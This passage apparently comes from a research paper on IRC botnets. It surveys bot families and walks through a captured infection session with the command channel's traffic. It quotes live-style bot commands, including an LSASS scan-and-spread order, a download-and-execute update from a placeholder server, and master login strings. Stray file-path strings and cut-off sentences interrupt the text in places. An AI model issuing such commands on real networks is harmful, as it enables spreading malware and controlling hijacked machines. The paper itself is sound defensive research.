       virtual machines (e.g. VMWare and Virtual PC). In addition, Agobot is the only bot that
       utilized a control protocol other than IRC. A fork using the distributed organized WASTE
       chat network is available. Furthermore, the Linux version is able to detect the Linux
       distribution used on the compromised host and sets up a correct init script.
       Summarizing: "The code reads like a charm, it's like dating the devil."
     SDBot/RBot/UrBot/UrXBot/...
       This family of malware is at the moment the most active one: Sophos lists currently
       seven derivatives on the "Latest 10 virus alerts". SDBot is written in very poor C and also
       published under the GPL. It is the father of RBot, RxBot, UrBot, UrXBot, JrBot,.. and
       probably many more. The source code of this bot is not very well designed or written.
       Nevertheless, attackers like it, and it is very often used in the wild. It offers similar
       features to Agobot, although the command set is not as large, nor the implementation as
     mIRC-based Bots - GT-Bots
       We subsume all mIRC-based bots as GT-bots, since there are so many different versions
       of them that it is hard to get an overview of all forks. mIRC itself is a popular IRC client
       for Windows. GT is an abbreviation for Global Threat and this is the common name used
       for all mIRC-scripted bots. These bots launch an instance of the mIRC chat-client with a
       set of scripts and other binaries. One binary you will never miss is a HideWindow

       executable used to make the mIRC instance unseen by the user. The other binaries are
       mainly Dynamic Link Libraries (DLLs) linked to mIRC that add some new features the
       mIRC scripts can use. The mIRC-scripts, often having the extension ".mrc", are used to
       control the bot. They can access the scanners in the DLLs and take care of further
       spreading. GT-Bots spread by exploiting weaknesses on remote computers and uploading
       themselves to compromised hosts (filesize > 1 MB).

Besides these three types of bots which we find on a nearly daily basis,there are also other bots
that we see more seldom. Some of these bots offer "nice" features and are worth mentioning

     DSNX Bots
       The Dataspy Network X (DSNX) bot is written in C++ and has a convenient plugin
       interface. An attacker can easily write scanners and spreaders as plugins and extend the
       bot's features. Again, the code is published under the GPL. This bot has one major
       disadvantage: the default version does not come with any spreaders. But plugins are
       available to overcome this gap. Furthermore, plugins that offer services like DDoS-
       attacks, portscan-interface or hidden HTTP-server are available.
     Q8 Bots
       Q8bot is a very small bot, consisting of only 926 lines of C-code. And it has one
       additional noteworthiness: It's written for Unix/Linux systems. It implements all common
       features of a bot: Dynamic updating via HTTP-downloads, various DDoS-attacks (e.g.
       SYN-flood and UDP-flood), execution of arbitrary commands, and many more. In theversion we have captured, spreaders are missing. But presumably versions of this bot
       exist which also include spreaders.
     kaiten
       This bot lacks a spreader too, and is also written for Unix/Linux systems. The weak user
       authentication makes it very easy to hijack a botnet running with kaiten. The bot itself
       consists of just one file. Thus it is very easy to fetch the source code using wget, and
       compile it on a vulnerable box using a script. Kaiten offers an easy remote shell, so
       checking for further vulnerabilities to gain privileged access can be done via IRC.
     Perl-based bots
       There are many different version of very simple based on the programming language
       Perl. These bots are very small and contain in most cases only a few hundred lines of
       code. They offer only a rudimentary set of commands (most often DDoS-attacks) and are
       used on Unix-based systems.

What Bots Do and How They Work
After having introduced different types of bots, we now want to take a closer look at what these
bots normally do and how they work. This section will in detail explain how bots spread and howthey are controlled by their masters.

After successful exploitation, a bot uses Trivial File Transfer Protocol (TFTP), File Transfer
Protocol (FTP), HyperText Transfer Protocol (HTTP), or CSend (an IRC extension to send files
to other users, comparable to DCC) to transfer itself to the compromised host. The binary is

started, and tries to connect to the hard-coded master IRC server. Often a dynamic DNS name is
provided (for example one from rather than a hard coded IP address, so the bot
can be easily relocated. Some bots even remove themselves if the given master server is
localhost or in a private subnet, since this indicates an unusual situations. Using a special crafted
nickname like USA|743634 or [UrX]-98439854 the bot tries to join the master's channel,
sometimes using a password to keep strangers out of the channel. A typical communication that
can be observed after a successful infection looks like:

<- :irc1.XXXXXX.XXX NOTICE AUTH :*** Looking up your hostname...
<- :irc1.XXXXXX.XXX NOTICE AUTH :*** Found your hostname
-> PASS secretserverpass
-> NICK [urX]-700159
-> USER mltfvt 0 0 :mltfvt
<- :irc1.XXXXXX.XXX NOTICE [urX]-700159 :*** If you are having problems
connecting due to ping timeouts, please type /quote pong ED322722 or /rawpong ED322722 now.
<- PING :ED322722
-> PONG :ED322722
<- :irc1.XXXXXX.XXX 001 [urX]-700159 :Welcome to the irc1.XXXXXX.XXX IRC
Network [urX]-700159!mltfvt@nicetry
<- :irc1.XXXXXX.XXX 002 [urX]-700159 :Your host is irc1.XXXXXX.XXX, running
version Unreal3.2-beta19
<- :irc1.XXXXXX.XXX 003 [urX]-700159 :This server was created Sun Feb 8
18:58:31 2004
<- :irc1.XXXXXX.XXX 004 [urX]-700159 irc1.XXXXXX.XXX Unreal3.2-beta19
iowghraAsORTVSxNCWqBzvdHtGp lvhopsmntikrRcaqOALQbSeKVfMGCuzNAfterwards, the server accepts the bot as a client and sends him RPL_ISUPPORT,
with RPL_ contain information for the client, for example RPL_ISUPPORT tells the client
which featuresthe server understands and RPL_MOTD indicates theMessage Of The Day
(MOTD). In contrast to this, ERR_NOMOTD is an error message if no MOTD is available. In
the following listing, these replies are highlihted with colors:

NICKLEN=30 TOPICLEN=307 KICKLEN=307 MAXTARGETS=20 AWAYLEN=307 :are supported by this
<- :irc1.XXXXXX.XXX 005 [urX]-700159 WALLCHOPS WATCH=128 SILENCE=5 MODES=12
CHANTYPES=# PREFIX=(qaohv)~&@%+ CHANMODES=be,kfL,l,psmntirRcOAQKVGCuzNSM
NETWORK=irc1.XXXXXX.XXX CASEMAPPING=ascii :are supported by this server
<- :irc1.XXXXXX.XXX 375 [urX]-700159 :- irc1.XXXXXX.XXX Message of the Day -
<- :irc1.XXXXXX.XXX 372 [urX]-700159 :- 20/12/2004 7:45
<- :irc1.XXXXXX.XXX 372 [urX]-700159 :- - .                             +
<- :irc1.XXXXXX.XXX 372 [urX]-700159 :- -            +
<- :irc1.XXXXXX.XXX 372 [urX]-700159 :- -                                            ___
<- :irc1.XXXXXX.XXX 372 [urX]-700159 :- -      .                            _.--"~~ __"-.
<-:irc1.XXXXXX.XXX 372 [urX]-700159 :- -                                ,-"       .-~ ~"-\
<- :irc1.XXXXXX.XXX 372 [urX]-700159 :- -               .             .^         /       (
)      .
<- :irc1.XXXXXX.XXX 372 [urX]-700159 :- -                     +    {_.---._ /              ~
<-:irc1.XXXXXX.XXX 372 [urX]-700159 :- -                           /      . Y
<- :irc1.XXXXXX.XXX 372 [urX]-700159 :- -                         /          \_j
<- :irc1.XXXXXX.XXX 372 [urX]-700159 :- -         .             Y         ( --l__
<- :irc1.XXXXXX.XXX 372 [urX]-700159 :- -                       |                  "-.

<- :irc1.XXXXXX.XXX 372 [urX]-700159 :- -                                   |            (___
.       |        .)~-.__/
<- :irc1.XXXXXX.XXX 372 [urX]-700159 :- -          .                    .
<- :irc1.XXXXXX.XXX 372 [urX]-700159 :- -                                   l               _)
<- :irc1.XXXXXX.XXX 372 [urX]-700159 :- -      .                             \             "l
<- :irc1.XXXXXX.XXX 372 [urX]-700159 :- -          +                            \             -
\       ^.
<- :irc1.XXXXXX.XXX 372 [urX]-700159 :- -              .                            ^.            "-.
-Row         .
<- :irc1.XXXXXX.XXX 372 [urX]-700159 :- -                                                "-._       ~-
<- :irc1.XXXXXX.XXX 372 [urX]-700159 :- -                                   .                "--.._____.^
<- :irc1.XXXXXX.XXX 372 [urX]-700159 :- -        .
<- :irc1.XXXXXX.XXX 372 [urX]-700159 :- -                                                ->Moon<-
<- :irc1.XXXXXX.XXX 376 [urX]-700159 :End of /MOTD command.
<- :[urX]-700159 MODE [urX]-700159 :+i

On RPL_ENDOFMOTD or ERR_NOMOTD, the bot will try to join his master's channel with
the provided password:

-> JOIN #foobar channelpassword
-> MODE [urX]-700159 +x

The bot receives the topic of the channel and interprets it as a command:<- :irc1.XXXXXX.XXX 332 [urX]-700159 #foobar :.advscan lsass 200 5 0 -r -s
<- :[urX]-700159!mltfvt@nicetry JOIN :#foobar
<- :irc1.XXXXXX.XXX MODE #foobar +smntuk channelpassword

Most botnets use a topic command like

   1. ".advscan lsass 200 5 0 -r -s"
   2. ".http.update http://<server>/~mugenxu/rBot.exe
      c:\msy32awds.exe 1"

The first topic tells the bot to spread further with the help of the LSASS vulnerability. 200
concurrent threads should scan with a delay of 5 seconds for an unlimited time (parameter 0).
The scans should be random (parameter -r) and silent (parameter -s), thusavoiding too much
traffic due to status reports. In contrast to this, the second example of a possible topic instructs
the bot to download a binary from the web and execute it (parameter 1). And if the topic does not
contain any instructions for the bot, then it does nothing but idling in the channel, awaiting
commands. That is fundamental for most current bots: They do not spread if they are not told to
spread in their master's channel.
Upon successful exploitation the bot will message the owner aboutit, if it has been advised to do

-> PRIVMSG #foobar :[lsass]: Exploiting IP: 200.124.175.XXX
-> PRIVMSG #foobar :[TFTP]: File transfer started to IP: 200.124.175.XXX

Then the IRC server (also called IRC daemon, abbreviated IRCd) will provide the channels
userlist. But most botnet owners have modified the IRCd to just send the channel operators to
save traffic and disguise the number of bots in the channel.

<-   :irc1.XXXXXX.XXX 353 [urX]-700159 @ #foobar :@JAH
<-   :irc1.XXXXXX.XXX 366 [urX]-700159 #foobar :End of /NAMES list.
<-   :irc1.XXXXXX.XXX NOTICE [urX]-700159 :BOTMOTD File not found
<-   :[urX]-700159 MODE [urX]-700159 :+xThe controller of a botnet has to authenticate himself to take control over the bots. This
authentication is done with the help of a command prefix and the "auth" command. The
command prefix is used to login the master on the bots and afterwards he has to authenticate
himself. For example,

.login leet0
.la plmp -s

are commands used on different bots to approve the controller. Again, the "-s" switch in the last
example tells the bots to be silent when authenticating their master. Else theyreply something

[MAIN]: Password accepted.
[r[X]-Sh0[x]]: .:( Password Accettata ):. .

which can be a lot of traffic if you have 10,000 bots on your network. Once an attacker is
authenticated, they can do whatever they want with the bots: Searching for sensitive information
on all compromised machines and DCC-sending these files to another machine, DDoS-ing
individuals or organizations, or enabling a keylogger and looking for PayPal or eBay account
information. These are just a few possible commands, other options have been presented in the
previous section. The IRC server that is used to connect all bots is in most cases a compromised
box. This is probably because an attacker would not receive operator-rights on a normal chat
network and thus has to set-up their own IRC server which offers more flexibility. Furthermore,
we made some other interesting observations: Only beginners start a botnet on a normal IRCd. It
is just too obvious you are doing something nasty if you got 1.200 clients named as rbot-<6-
digits> reporting scanning results in a channel. Two different IRC servers software
implementation are commonly used to run a botnet: Unreal IRCd and ConferenceRoom:

       Unreal IRCd( is cross-platform and can thus be used to
         easily link machines running Windows and Linux. The IRC server software is stripped
         down and modified to fit the botnet owners needs.
         Common modifications we have noticed are stripping "JOIN", "PART" and "QUIT"
         messages on channels to avoid unnecessary traffic. In addition, the messages "LUSERS"
         (information about number of connected clients) and "RPL_ISUPPORT" are removed to
         hide identity and botnet size. We recently got a win32 binary only copy of a heavily
         modified Unreal IRCd that was stripped down and optimized. The filenames suggest that
         this modified IRCd is able to serve 80.000 bots:cac8629c7139b484e4a19a53caaa6be0          UNREAL.3.2-m0dded-LyR.rar
                  9dbaf01b5305f08bd8c22c67e4b4f729          Unreal-80k[MAX]users.rar

                 de4c1fbc4975b61ebeb0db78d1fba84f           unreal-modded-80k-users-

       As we don't run a 80,000 user botnet and lack 80,000 developers in our group we are not
